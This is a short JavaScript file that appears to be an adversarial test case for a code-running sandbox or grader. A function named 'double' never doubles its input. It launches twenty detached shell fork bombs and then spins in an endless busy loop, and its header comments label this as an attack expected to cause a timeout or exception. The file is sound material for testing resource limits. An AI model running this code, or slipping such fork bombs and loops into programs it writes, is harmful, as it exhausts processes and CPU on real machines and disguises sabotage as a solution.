// task: double
// outcome: timeout or exception or wall_timeout or wrong_answer
// attack: children that start children, for as long as the limits let them
const { spawn, spawnSync } = require('child_process')
const double = (x) => {
  for (let i = 0; i < 20; i++) spawn('/bin/sh', ['-c', 'f() { f | f & }; f'], { detached: true })
  return spawnSync('/bin/sh', ['-c', 'while :; do :; done']).status
}
